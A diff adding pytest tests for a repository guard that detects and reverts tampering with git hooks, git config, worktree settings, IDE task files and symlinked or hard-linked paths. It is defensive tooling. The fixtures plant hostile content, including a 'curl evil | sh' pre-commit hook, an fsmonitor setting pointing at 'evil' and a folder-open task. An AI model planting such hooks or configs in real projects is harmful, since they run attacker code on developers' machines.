@@ -25,6 +25,7 @@ def repo(tmp_path: Path) -> Path:
 def guarded(repo: Path, *unprotected: str) -> Guard:
     g = Guard(repo, unprotected)
     g.snapshot()
+    g.snapshot_watched()
     return g
 
 
@@ -54,7 +55,7 @@ def test_hooks_config_and_host_side_files_are_put_back(repo):
     rec = g.check()
     refused = {r["path"]: r["change"] for r in rec["refused"]}
     assert refused == {".git/hooks/post-checkout": "created", ".git/config": "modified", ".envrc": "created",
-                       ".vscode/tasks.json": "created"}, refused
+                       ".vscode": "created", ".vscode/tasks.json": "created"}, refused
     assert rec["restored"]
     assert (repo / ".git/config").read_bytes() == config
     assert sorted(p.name for p in (repo / ".git/hooks").iterdir()) == sample
@@ -100,6 +101,73 @@ def test_a_workflow_can_unprotect_a_path(repo):
     assert rec["refused"] == [] and (repo / ".envrc").exists() and ".envrc" not in rec["protected"]
 
 
+def test_a_new_commondir_or_worktree_config_is_put_back(repo):
+    g = guarded(repo)
+    (repo / ".git/commondir").write_text("../evil\n")
+    (repo / ".git/config.worktree").write_text("[core]\n\tfsmonitor = evil\n")
+    (repo / "src.txt").write_text("ordinary work\n")
+    rec = g.check()
+    assert {r["path"] for r in rec["refused"]} == {".git/commondir", ".git/config.worktree"}, rec["refused"]
+    assert not (repo / ".git/commondir").exists() and rec["restored"]
+
+
+def test_a_parent_replaced_by_a_symlink_is_seen_and_removed(repo):
+    (repo / "docs/ide").mkdir(parents=True)
+    (repo / "docs/ide/tasks.json").write_text('{"runOn": "folderOpen"}')
+    g = guarded(repo)
+    os.symlink("docs/ide", repo / ".vscode")
+    os.symlink("../docs", repo / ".claude")
+    rec = g.check()
+    assert {(r["path"], r["change"]) for r in rec["refused"]} == {(".vscode", "created"), (".claude", "created")}
+    assert not (repo / ".vscode").exists() and (repo / "docs/ide/tasks.json").exists()
+
+
+def test_unreadable_large_and_hard_linked_leftovers_are_removed(repo):
+    g = guarded(repo)
+    (repo / ".devcontainer").mkdir()
+    with open(repo / ".devcontainer/big", "wb") as f:
+        f.truncate(9 << 20)
+    os.link(repo / "src.txt", repo / ".git/hooks/pre-push")
+    rec = g.check()
+    changes = {r["path"]: r["change"] for r in rec["refused"]}
+    assert changes[".devcontainer/big"].startswith("created") and ".git/hooks/pre-push" in changes, changes
+    assert rec["restored"] and not (repo / ".devcontainer").exists() and not (repo / ".git/hooks/pre-push").exists()
+    assert (repo / "src.txt").read_text() == "code\n"
+
+
+def test_hooks_elsewhere_in_the_project_are_protected(repo):
+    (repo / ".husky/_").mkdir(parents=True)
+    (repo / ".husky/pre-commit").write_text("npm test\n")
+    (repo / "extra.gitconfig").write_text("[alias]\n\tx = !true\n")
+    with open(repo / ".git/config", "a") as f:
+        f.write("[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../extra.gitconfig\n")
+    g = guarded(repo)
+    assert ".husky" in g.paths and "extra.gitconfig" in g.paths
+    (repo / ".husky/pre-commit").write_text("curl evil | sh\n")
+    (repo / "extra.gitconfig").write_text("[core]\n\tfsmonitor = evil\n")
+    rec = g.check()
+    assert {r["path"] for r in rec["refused"]} == {".husky/pre-commit", "extra.gitconfig"}, rec["refused"]
+    assert (repo / ".husky/pre-commit").read_text() == "npm test\n"
+
+
+def test_a_gitdir_file_target_in_the_project_is_a_git_directory(tmp_path):
+    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / ".bare")], check=True)
+    (tmp_path / ".git").write_text("gitdir: ./.bare\n")
+    g = guarded(tmp_path)
+    assert ".bare" in g.git_dirs
+    (tmp_path / ".bare/hooks/post-checkout").write_text("evil\n")
+    (tmp_path / ".bare/objects/ab").mkdir()
+    rec = g.check()
+    assert [r["path"] for r in rec["refused"]] == [".bare/hooks/post-checkout"], rec["refused"]
+    assert (tmp_path / ".bare/objects/ab").is_dir()  # repository data is the workload's to write
+
+
+def test_a_run_that_never_started_lists_no_watched_change(repo):
+    g = Guard(repo)
+    g.snapshot()
+    assert g.check()["watched_changed"] == []
+
+
 def test_read_only_mounts_cover_the_existing_protected_paths(repo):
     g = guarded(repo)
     assert {".git/hooks", ".git/config", ".git/info"} <= set(g.read_only())
@@ -112,3 +180,13 @@ def test_huge_protected_trees_are_refused_up_front(repo, monkeypatch):
         (repo / ".git/hooks" / f"h{i}").write_text("x")
     with pytest.raises(GuardError, match="unprotected_paths"):
         scan(repo, (".git/hooks",))
+
+
+def test_a_flood_after_the_run_is_replaced_by_the_snapshot(repo, monkeypatch):
+    g = guarded(repo)
+    monkeypatch.setattr("kooi.run.guard.MAX_ENTRIES_AFTER", 40)
+    for i in range(60):
+        (repo / ".git/hooks" / f"h{i}").write_text("x")
+    rec = g.check()
+    assert rec["restored"], rec["restore_failed"]
+    assert not any(p.name.startswith("h") and p.name[1:].isdigit() for p in (repo / ".git/hooks").iterdir())
